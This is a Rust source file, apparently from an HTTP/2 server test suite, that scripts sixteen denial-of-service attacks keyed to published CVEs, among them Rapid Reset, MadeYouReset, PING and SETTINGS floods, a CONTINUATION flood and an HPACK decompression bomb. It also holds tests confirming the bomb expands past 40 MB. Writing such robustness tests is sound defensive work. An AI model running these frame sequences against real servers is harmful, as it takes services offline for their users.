//! The attacks.

use super::GROWTH;
use crate::case::Case;
use crate::judge::words::others_served;
use crate::script::Script;
use crate::wire::build::*;
use crate::wire::code::error::CANCEL;
use crate::wire::code::{setting, MAX_WINDOW};
use crate::wire::{hpack, Frame};

/// The topic of the attacks. No file of the catalogue has that name.
pub const TOPIC: &str = "abuse";

/// Frames that go out in one write.
const AT_ONCE: u32 = 100;
/// Small frames in one attack.
const FRAMES: u32 = 20_000;
/// Requests in one attack, or twice as many frames.
const REQUESTS: u32 = 4_000;
/// Streams that stay open. Few servers allow less.
const OPEN: u32 = 100;

/// A field without a name and a value, each of which says that it is in Huffman code.
const NAMELESS: [u8; 3] = [0, 0x80, 0x80];

/// A reference to the newest field of the dynamic table (RFC 7541 section 6.1).
const NEWEST: u8 = 0x80 | 62;

/// All attacks, in the order in which they are played.
#[must_use]
pub fn cases() -> Vec<Case> {
    ATTACKS
        .iter()
        .map(|&(id, title, script)| Case {
            id,
            title,
            requires: &["rfc9113/10.5/limits"],
            script,
            expect: others_served(GROWTH),
            ..Case::DEFAULT
        })
        .collect()
}

type Attack = (&'static str, &'static str, fn(&mut Script));

const ATTACKS: &[Attack] = &[
    ("abuse/rapid-reset", "4000 requests, each reset at once (CVE-2023-44487)", |s| {
        s.open();
        requests(s, REQUESTS, |stream| vec![get(stream), reset(stream, CANCEL)]);
    }),
    ("abuse/made-you-reset", "4000 requests, each with an error that has the server reset it (CVE-2025-8671)", |s| {
        s.open();
        requests(s, REQUESTS, |stream| vec![post(stream), window_update(stream, 0)]);
    }),
    ("abuse/malformed", "4000 malformed requests, which the server resets (CVE-2019-9514)", |s| {
        s.open();
        requests(s, REQUESTS, |stream| vec![malformed(stream)]);
    }),
    ("abuse/unread-resets", "The same, and the peer does not read", |s| {
        s.open();
        unread(s, |s| requests(s, REQUESTS, |stream| vec![malformed(stream)]));
    }),
    ("abuse/ping", "20 000 PINGs, and the peer does not read the answers (CVE-2019-9512)", |s| {
        s.open();
        unread(s, |s| repeat(s, FRAMES, |_| ping([7; 8])));
    }),
    ("abuse/settings", "20 000 SETTINGS, and the peer does not read the acknowledgements (CVE-2019-9515)", |s| {
        s.open();
        unread(s, |s| repeat(s, FRAMES, |_| settings()));
    }),
    ("abuse/window-sizes", "5000 changes of the initial window, with 100 streams open", |s| {
        s.open_with(settings().with(setting::INITIAL_WINDOW_SIZE, 0));
        requests(s, OPEN, |stream| vec![get(stream)]);
        repeat(s, FRAMES / 4, |n| settings().with(setting::INITIAL_WINDOW_SIZE, n % 2));
    }),
    ("abuse/priority", "20 000 PRIORITY frames that move 100 streams about (CVE-2019-9513)", |s| {
        s.open();
        repeat(s, FRAMES, |n| moved(1 + 2 * (n % OPEN), 1 + 2 * ((n * 7 + 1) % OPEN)));
    }),
    ("abuse/dribble", "100 responses, of which 10 000 WINDOW_UPDATEs ask for an octet each (CVE-2019-9511)", |s| {
        s.open_with(settings().with(setting::INITIAL_WINDOW_SIZE, 0));
        requests(s, OPEN, |stream| vec![get(stream)]);
        repeat(s, FRAMES / 2, |n| window_update(1 + 2 * (n % OPEN), 1));
    }),
    ("abuse/unread-responses", "2000 requests with open windows, and the peer does not read (CVE-2019-9517)", |s| {
        s.open_with(settings().with(setting::INITIAL_WINDOW_SIZE, MAX_WINDOW));
        s.send(window_update(0, MAX_WINDOW - 65_535));
        unread(s, |s| requests(s, REQUESTS / 2, |stream| vec![get(stream)]));
    }),
    ("abuse/window-held", "100 requests whose windows stay at 0", |s| {
        s.open_with(settings().with(setting::INITIAL_WINDOW_SIZE, 0));
        requests(s, OPEN, |stream| vec![get(stream)]);
        s.settle();
    }),
    ("abuse/empty-data", "20 000 empty DATA frames (CVE-2019-9518)", |s| {
        s.open();
        s.send(post(1));
        repeat(s, FRAMES, |_| data(1, 0));
    }),
    ("abuse/continuation", "A field block of 4 MiB in CONTINUATION frames that does not end (CVE-2024-27316)", |s| {
        s.open();
        s.send(post(1).continues());
        let field = hpack::encode(&[("filler", &"x".repeat(1_000))]);
        repeat(s, REQUESTS, |_| continuation(1, field.clone()).continues());
    }),
    ("abuse/empty-continuation", "20 000 empty CONTINUATION frames (CVE-2019-9518)", |s| {
        s.open();
        s.send(post(1).continues());
        repeat(s, FRAMES, |_| continuation(1, Vec::new()).continues());
    }),
    ("abuse/nameless-fields", "90 000 fields without name and value in 200 requests (CVE-2019-9516)", |s| {
        s.open();
        requests(s, 200, |stream| {
            let mut request = get(stream);
            request.payload.extend(NAMELESS.repeat(450));
            vec![request]
        });
    }),
    ("abuse/hpack-bomb", "40 requests, each of which names a field of 4000 octets 10 000 times (CVE-2016-6581)", |s| {
        s.open();
        let mut first = get(1);
        hpack::indexed_literal(&mut first.payload, "x", &"x".repeat(4_000));
        s.send(first);
        for n in 1..=40 {
            let mut request = get(1 + 2 * n);
            request.payload.extend([NEWEST; 10_000]);
            s.send(request);
        }
    }),
];

/// Has the peer not read while it attacks, and until the server has had its time to get on.
fn unread(s: &mut Script, attack: impl Fn(&mut Script)) {
    s.stop_reading();
    attack(s);
    s.settle();
    s.go_on_reading();
    s.settle();
}

/// A PRIORITY frame that has the stream depend on that one.
fn moved(stream: u32, parent: u32) -> Frame {
    let [a, b, c, d] = parent.to_be_bytes();
    priority(stream).payload(&[a, b, c, d, 15])
}

/// A request that every server has to refuse.
fn malformed(stream: u32) -> Frame {
    let fields: Vec<(&str, &str)> = GET.iter().copied().chain([("Upper-Case", "1")]).collect();
    headers(stream, &fields).end_stream()
}

/// Writes frames, the `n`-th from 0 made by `frame`.
fn repeat(s: &mut Script, frames: u32, frame: impl Fn(u32) -> Frame) {
    for first in (0..frames).step_by(AT_ONCE as usize) {
        s.burst((first..frames.min(first + AT_ONCE)).map(&frame));
    }
}

/// Writes the frames of requests on the next streams.
fn requests(s: &mut Script, requests: u32, frames: impl Fn(u32) -> Vec<Frame>) {
    for first in (0..requests).step_by(AT_ONCE as usize) {
        s.burst((first..requests.min(first + AT_ONCE)).flat_map(|n| frames(1 + 2 * n)));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::script::{written, Step};

    #[test]
    fn an_attack_is_named_once_and_bounded() {
        let mut ids: Vec<&str> = cases().iter().map(|case| case.id).collect();
        ids.sort_unstable();
        ids.dedup();
        assert_eq!(ids.len(), ATTACKS.len());
        for case in cases() {
            assert_eq!(case.topic(), TOPIC);
            assert!(crate::catalog::all().iter().all(|other| other.topic() != TOPIC));
            let octets: usize = case
                .steps()
                .steps
                .iter()
                .map(|step| match step {
                    Step::Write(sent) => written(sent).len(),
                    _ => 0,
                })
                .sum();
            assert!(octets > 1_000 && (octets as u64) < GROWTH / 10, "{}: {octets}", case.id);
        }
    }

    #[test]
    fn one_request_of_the_bomb_takes_40_megabytes() {
        let bomb = cases().into_iter().find(|case| case.id == "abuse/hpack-bomb").expect("the bomb");
        let mut decoder = hpack::Decoder::default();
        let frames: Vec<Frame> = bomb
            .steps()
            .steps
            .iter()
            .filter_map(|step| match step {
                Step::Write(sent) => sent[0].frame().filter(|frame| frame.stream > 0).cloned(),
                _ => None,
            })
            .collect();
        decoder.decode(&frames[0].payload).expect("the first request");
        let fields = decoder.decode(&frames[1].payload).expect("the second request");
        assert!(fields.iter().map(|field| field.1.len()).sum::<usize>() >= 40_000_000);
    }
}
